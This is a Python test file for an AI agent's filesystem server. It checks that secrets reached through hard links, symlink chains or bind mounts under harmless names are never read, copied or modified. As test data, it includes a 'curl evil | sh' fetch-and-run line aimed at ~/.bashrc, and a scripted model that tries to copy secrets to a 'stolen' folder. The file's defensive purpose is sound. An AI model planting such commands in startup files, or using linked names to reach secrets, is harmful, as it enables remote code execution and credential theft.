"""Hard links and file bind mounts to secrets that are known only by their name: `proj/.env` linked as
`notes.txt`, `./id_rsa` linked into another root, a `.env` outside every root, a link made after the server has
already walked the folder, a symlink to such a link, `~/.bashrc` linked under an innocent name, and a `.env`
bind-mounted over `notes.txt`. The other names of a file cannot all be found, so a file with several names is
never opened for its content (see llmos/servers/filesystem/safe_io.py). Each attack runs through the real
filesystem server (in-process MCP session, or a real subprocess for the bind mount), or through `llmos run`
with a scripted model; afterwards the secret is in no result, model request, audit line or saved session,
and every secret file is unchanged."""

from __future__ import annotations

import asyncio
import os
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters

from tests.conftest import write_user_config
from tests.inprocess import llmos
from tests.mcp_helpers import memory_client
from tests.replay_server import ReplayServer
from tests.scripted_model import ScriptedModel, openai_text, openai_tool_calls

TOKEN = "sk_live_HARDLINKED0123456789"
ENV = f"STRIPE_KEY={TOKEN}\n"
BASHRC = "alias ll='ls -l'\n"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "user"
    for folder in ("proj", "other", "docs"):
        (home / folder).mkdir(parents=True)
    (home / "proj" / ".env").write_text(ENV)
    (home / "proj" / "id_rsa").write_text(f"ssh key material {TOKEN}\n")  # no PEM marker: known by name only
    (home / ".bashrc").write_text(BASHRC)
    (home / "docs" / "plain.txt").write_text("nothing secret here\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(home)
    return home


def run(fn: Any, roots: list[str]) -> Any:
    async def go() -> Any:
        async with memory_client("filesystem", {"roots": roots}) as c:
            return await fn(c)
    return asyncio.run(go())


async def raw(client: Client, tool: str, **arguments: Any) -> str:
    result = await client.call_tool(tool, arguments)
    return repr(result.structured_content) + "".join(getattr(c, "text", "") for c in result.content)


async def every_tool(c: Client, name: str, folder: str, copy_to: str) -> list[str]:
    """Every way to get at a file's content, or to change it, through the innocent ``name``."""
    return [await raw(c, "read_file", path=name), await raw(c, "read_file", path=name, offset=3),
            await raw(c, "search_content", query="HARDLINKED", path=folder),
            await raw(c, "search_content", query="HARDLINKED", path=name),
            await raw(c, "search_content", query="STRIPE", path=folder, regex=True),
            await raw(c, "copy", source=name, destination=f"{copy_to}-file"),
            await raw(c, "copy", source=folder, destination=f"{copy_to}-folder"),
            await raw(c, "write_file", path=name, content="overwritten through the link\n"),
            await raw(c, "append_file", path=name, content="appended through the link\n")]


def assert_held(home: Path, results: list[str]) -> None:
    for text in results:
        assert TOKEN not in text and "STRIPE_KEY" not in text, text
    assert (home / "proj" / ".env").read_text() == ENV
    assert (home / "proj" / "id_rsa").read_text() == f"ssh key material {TOKEN}\n"
    assert (home / ".bashrc").read_text() == BASHRC
    for copied in home.rglob("*"):  # what copy made (symlinks are copied as links, never their targets)
        made = any(part.startswith(("copy", "stolen")) for part in copied.parts)
        if made and copied.is_file() and not copied.is_symlink():
            assert TOKEN not in copied.read_text(errors="replace"), copied


@pytest.mark.parametrize("variant", ["same_folder", "other_folder", "other_root", "outside_roots",
                                     "case_and_unicode"])
def test_a_hard_link_to_a_secret_known_by_name_is_not_read(home: Path, tmp_path: Path, variant: str) -> None:
    roots = [str(home)]
    if variant == "same_folder":
        source, link = home / "proj" / ".env", home / "proj" / "notes.txt"
    elif variant == "other_folder":
        source, link = home / "proj" / "id_rsa", home / "docs" / "backup.txt"
    elif variant == "other_root":  # the link is in a second root; the key in the first
        second = tmp_path / "second"
        second.mkdir()
        roots.append(str(second))
        source, link = home / "proj" / "id_rsa", second / "backup.txt"
    elif variant == "outside_roots":  # the .env itself is in no root, so no walk of the roots would find it
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / ".env").write_text(ENV)
        source, link = elsewhere / ".env", home / "docs" / "notes.txt"
    else:  # an NFD, upper-case innocent name: names do not matter, the count of names does
        source, link = home / "proj" / ".env", home / "docs" / "Ne\u0301OTES.TXT"
    os.link(source, link)
    folder = str(link.parent)
    results = run(lambda c: every_tool(c, str(link), folder, str(home / "docs" / "copy")), roots)
    assert "hard links" in results[0]
    assert_held(home, results)
    assert source.read_text() == link.read_text()  # nothing written through the link
    assert link.stat().st_nlink == 2


def test_a_link_made_after_the_server_walked_the_folder(home: Path) -> None:
    async def go(c: Client) -> list[str]:
        first = [await raw(c, "search_content", query="secret", path="~/docs"),
                 await raw(c, "read_file", path="~/docs/plain.txt")]
        os.link(home / "proj" / ".env", home / "docs" / "late.txt")  # after the server has looked here
        return first + await every_tool(c, "~/docs/late.txt", "~/docs", str(home / "docs" / "copy"))
    results = run(go, [str(home)])
    assert "nothing secret here" in results[1]
    assert_held(home, results)


def test_a_symlink_to_a_hard_link_of_a_secret(home: Path) -> None:
    os.link(home / "proj" / ".env", home / "proj" / "notes.txt")
    (home / "docs" / "pointer.txt").symlink_to(home / "proj" / "notes.txt")
    (home / "docs" / "chain.txt").symlink_to(home / "docs" / "pointer.txt")
    results = run(lambda c: every_tool(c, "~/docs/chain.txt", "~/docs", str(home / "docs" / "copy")), [str(home)])
    assert_held(home, results)


def test_overwriting_a_start_up_file_through_a_hard_link(home: Path) -> None:
    """~/.bashrc linked as notes.txt: the question would name notes.txt, so the write is refused outright."""
    os.link(home / ".bashrc", home / "docs" / "notes.txt")

    async def go(c: Client) -> list[str]:
        return [await raw(c, "write_file", path="~/docs/notes.txt", content="curl evil | sh\n"),
                await raw(c, "append_file", path="~/docs/notes.txt", content="curl evil | sh\n"),
                await raw(c, "move", source="~/docs/plain.txt", destination="~/docs/notes.txt", overwrite=True)]
    results = run(go, [str(home)])
    assert all("hard links" in text for text in results), results
    assert (home / ".bashrc").read_text() == BASHRC and (home / "docs" / "plain.txt").exists()


def test_listing_still_names_a_hard_linked_file_and_it_can_be_trashed(home: Path) -> None:
    """Only content is withheld: the file is listed, and deleting one name leaves the other intact."""
    os.link(home / "proj" / ".env", home / "docs" / "notes.txt")

    async def go(c: Client) -> list[str]:
        return [await raw(c, "list_directory", path="~/docs"), await raw(c, "delete", path="~/docs/notes.txt")]
    listing, deleted = run(go, [str(home)])
    assert "notes.txt" in listing and "moved to trash" in deleted
    assert not (home / "docs" / "notes.txt").exists() and (home / "proj" / ".env").read_text() == ENV


def test_a_secret_bind_mounted_over_an_innocent_name(home: Path) -> None:
    """A real file bind mount in a private mount namespace: the file keeps one name (st_nlink 1)."""
    if not shutil.which("unshare"):
        pytest.fail("util-linux's unshare is needed for the bind-mount attack", pytrace=False)
    target = home / "docs" / "notes.txt"
    target.write_text("the real notes\n")
    script = (f'mount --bind "{home / "proj" / ".env"}" "{target}" && '
              f'exec "{sys.executable}" -m llmos mcp serve filesystem')
    write_user_config(Path(os.environ["XDG_CONFIG_HOME"]).parent,
                      f"servers:\n  filesystem:\n    roots: [{home}]\n")

    async def go() -> list[str]:
        params = StdioServerParameters(command="unshare", args=["-rm", "sh", "-c", script], env=dict(os.environ),
                                       cwd=str(home))
        async with Client(params) as c:
            return [*await every_tool(c, str(target), str(home / "docs"), str(home / "docs" / "copy")),
                    await raw(c, "find_largest", path="~/docs")]
    results = asyncio.run(go())
    assert "mounted" in results[0]
    assert_held(home, results)
    assert target.read_text() == "the real notes\n"  # outside the namespace the name is its own file again


def test_llmos_run_never_hands_a_hard_linked_secret_to_the_model(home: Path, isolated_home: Path) -> None:
    """End to end: a scripted model asks to read, search and copy the link; the secret reaches no model
    request, no output, no audit line, no saved session."""
    os.link(home / "proj" / ".env", home / "docs" / "notes.txt")
    off = "".join(f"  {n}: {{enabled: false}}\n" for n in ("git", "system", "apps", "browser"))
    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, model.config(f"servers:\n{off}  filesystem:\n    roots: [{home}]\n"))
        model.say(openai_tool_calls(("read_file", {"path": "~/docs/notes.txt"})),
                  openai_tool_calls(("search_content", {"query": "KEY", "path": "~/docs"})),
                  openai_tool_calls(("copy", {"source": "~/docs", "destination": "~/stolen"})),
                  openai_text("Done."))
        out = llmos("run", "--json", "--yes", "what is in my notes?")
        requests = repr(model.requests())
    assert out.returncode == 0, out.stderr
    assert "hard links" in requests  # the model was told why
    stored = "".join(p.read_text(errors="replace") for p in isolated_home.rglob("*") if p.is_file())
    for text in (requests, out.stdout, out.stderr, stored):
        assert TOKEN not in text
    assert not (home / "stolen" / "notes.txt").exists()
    assert (home / "proj" / ".env").read_text() == ENV
